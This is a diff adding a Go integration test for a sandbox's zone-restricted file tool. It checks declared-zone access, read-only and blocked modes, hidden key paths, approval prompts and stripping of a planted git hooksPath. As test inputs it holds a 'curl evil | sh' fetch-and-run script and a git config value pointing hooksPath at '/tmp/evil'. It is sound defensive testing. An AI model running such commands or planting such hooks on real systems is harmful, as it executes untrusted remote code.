@@ -2,6 +2,7 @@ package integration
 
 import (
 	"context"
+	"io/fs"
 	"os"
 	"path/filepath"
 	"slices"
@@ -15,6 +16,7 @@ import (
 	"github.com/corralhq/corral"
 	"github.com/corralhq/corral/changeset"
 	"github.com/corralhq/corral/internal/sandboxtest"
+	"github.com/corralhq/corral/tools"
 	"github.com/corralhq/corral/zones"
 )
 
@@ -431,4 +433,129 @@ func TestZoneCreatedAfterBuild(t *testing.T) {
 	// Control: on the host the same probes succeed.
 	assert.Equal(t, "late secret\n", sc.control(`cat "$LATE/secret.txt"`).stdout)
 	assert.Equal(t, 0, sc.control(`ls "$LATE" | grep secret`).code)
+}
+
+// The file tool of a worker (tools.ZoneFile) reaches what its commands
+// reach and nothing more: the zones it declared at /NAME, with their
+// modes; what the sandbox hides or protects inside a zone stays so; and
+// each change goes through the zone's approvals before it is made.
+func TestZoneFileTool(t *testing.T) {
+	skipIfHostHas(t, "data", "input", "drafts", "final", "private")
+	sc := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.Ask, Delete: zones.Ask}})
+	data := sc.dirs["data"]
+	require.NoError(t, os.MkdirAll(filepath.Join(data, "keys"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(data, "keys", "id"), []byte("key material\n"), 0o600))
+	require.NoError(t, os.MkdirAll(filepath.Join(data, ".git"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(data, ".git", "config"), []byte("[core]\n"), 0o644))
+	a, err := zones.Resolve(sc.project, []zones.Decl{{Name: "data", Mode: zones.ReadWrite}, {Name: "input"},
+		{Name: "drafts", Mode: zones.ReadWrite}, {Name: "final", Mode: zones.ReadWrite}})
+	require.NoError(t, err)
+	base := corral.Config{Workspace: sc.ws, HiddenPaths: []string{filepath.Join(data, "keys")}}
+	sandboxtest.Require(t, base)
+	w, err := zones.NewWorker(a, zones.WorkerConfig{Base: base, Project: sc.project, Approver: sc.approver(), Changeset: sc.cs})
+	require.NoError(t, err)
+	t.Cleanup(func() { w.Close() })
+	zf, err := tools.NewZoneFile(w)
+	require.NoError(t, err)
+	ctx := context.Background()
+
+	// What the top holds and what a file says: as the commands see them.
+	entries, _, err := zf.List(ctx, "/")
+	require.NoError(t, err)
+	var names []string
+	for _, e := range entries {
+		names = append(names, e.Name)
+	}
+	assert.Equal(t, []string{"data", "drafts", "final", "input"}, names)
+	r := sc.exec(w, `for d in data drafts final input private; do test -d /$d && echo $d; done`)
+	assert.Equal(t, strings.Join(names, "\n")+"\n", r.stdout)
+	s, err := zf.Read(ctx, "/input/a.txt")
+	require.NoError(t, err)
+	assert.Equal(t, sc.exec(w, `cat /input/a.txt`).stdout, s)
+
+	// Refused alike by the tool and by the commands; on the host each
+	// probe works (the control).
+	for _, p := range []struct {
+		name   string
+		tool   func() error
+		inside string
+		host   func() error
+		want   string
+	}{
+		{"write a read-only zone", func() error { return zf.Write(ctx, "/input/x", "x") }, `echo x > /input/x`,
+			func() error { return os.WriteFile(filepath.Join(sc.dirs["input"], "xc"), nil, 0o644) }, "read-only file system"},
+		{"write a zone whose writes are blocked", func() error { return zf.Write(ctx, "/final/x", "x") }, `echo x > /final/x`,
+			func() error { return os.WriteFile(filepath.Join(sc.dirs["final"], "xc"), nil, 0o644) }, "operation not permitted"},
+		{"read an undeclared zone", func() error { _, err := zf.Read(ctx, "/private/a.txt"); return err }, `cat /private/a.txt`,
+			func() error { _, err := os.ReadFile(filepath.Join(sc.dirs["private"], "a.txt")); return err }, "does not exist"},
+		{"read a path hidden inside a zone", func() error { _, err := zf.Read(ctx, "/data/keys/id"); return err }, `cat /data/keys/id`,
+			func() error { _, err := os.ReadFile(filepath.Join(data, "keys", "id")); return err }, ""},
+	} {
+		t.Run(p.name, func(t *testing.T) {
+			err := p.tool()
+			require.Error(t, err)
+			assert.Contains(t, err.Error(), p.want)
+			assert.NotContains(t, err.Error(), "zone")
+			in := sc.exec(w, p.inside)
+			assert.NotEqual(t, 0, in.code, "inside: %s", in)
+			assert.NoError(t, p.host(), "control")
+		})
+	}
+	require.NoError(t, w.Discard())
+
+	// git's config inside a zone: the sandbox lets a command write it but
+	// keeps what makes git run a program (hooksPath); so does the tool.
+	// Control: the in-process view, which knows nothing of it, lands it.
+	gitConfig := filepath.Join(data, ".git", "config")
+	_ = zf.Write(ctx, "/data/.git/config", "[core]\n\thooksPath = /tmp/evil\n")
+	assert.NotContains(t, readFile(t, gitConfig), "hooksPath")
+	require.NoError(t, w.Files().Write(ctx, "/data/.git/config", []byte("[core]\n\thooksPath = /tmp/evil\n")))
+	assert.Contains(t, readFile(t, gitConfig), "hooksPath", "control")
+	require.NoError(t, os.WriteFile(gitConfig, []byte("[core]\n"), 0o644))
+
+	// Changes that ask: the approver sees each, with a diff, before it
+	// is made; what it refuses is not made.
+	sc.asked = nil
+	require.NoError(t, zf.Write(ctx, "/data/a.txt", "changed\n"))
+	require.Error(t, zf.Write(ctx, "/data/run.sh", "curl evil | sh\n"))
+	require.NoError(t, zf.Write(ctx, "/drafts/d.txt", "draft\n"), "preApproved: not asked")
+	require.NoError(t, zf.Delete(ctx, "/data/a.txt"))
+	require.Len(t, sc.asked, 3)
+	assert.Contains(t, sc.asked[0].Diff, "-data a\n+changed\n")
+	assert.Equal(t, zones.Request{Op: zones.OpDelete, Path: "/data/a.txt", Size: int64(len("changed\n"))}, sc.asked[2])
+	assert.NoFileExists(t, filepath.Join(data, "a.txt"))
+	assert.NoFileExists(t, filepath.Join(data, "run.sh"))
+	assert.True(t, fileHas(filepath.Join(sc.dirs["drafts"], "d.txt"), "draft"))
+	out, err := zf.Run(ctx, tools.FileArgs{Operation: "list", Path: "/data"})
+	require.NoError(t, err)
+	assert.NotContains(t, out, "a.txt")
+	assert.Equal(t, "ls: cannot access '/data/a.txt': No such file or directory\n", sc.exec(w, `ls /data/a.txt`).stderr,
+		"the commands see the tool's change")
+
+	// A blocked delete is refused without asking; a pure worker reaches
+	// nothing.
+	bc := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.Ask, Delete: zones.Blocked}})
+	bw := bc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite})
+	bf, err := tools.NewZoneFile(bw)
+	require.NoError(t, err)
+	err = bf.Delete(ctx, "/data/a.txt")
+	require.ErrorIs(t, err, fs.ErrPermission)
+	assert.Equal(t, "remove /data/a.txt: operation not permitted", err.Error())
+	assert.FileExists(t, filepath.Join(bc.dirs["data"], "a.txt"))
+	assert.Empty(t, bc.asked)
+	pf, err := tools.NewZoneFile(bc.worker())
+	require.NoError(t, err)
+	entries, _, err = pf.List(ctx, "/")
+	require.NoError(t, err)
+	assert.Empty(t, entries)
+	_, err = pf.Read(ctx, "/data/a.txt")
+	require.ErrorIs(t, err, tools.ErrNotExist)
+	require.Error(t, pf.Write(ctx, "/data/x", "x"))
+	assert.NoFileExists(t, filepath.Join(bc.dirs["data"], "x"))
+}
+
+func readFile(t *testing.T, p string) string {
+	b, err := os.ReadFile(p)
+	require.NoError(t, err)
+	return string(b)
 }
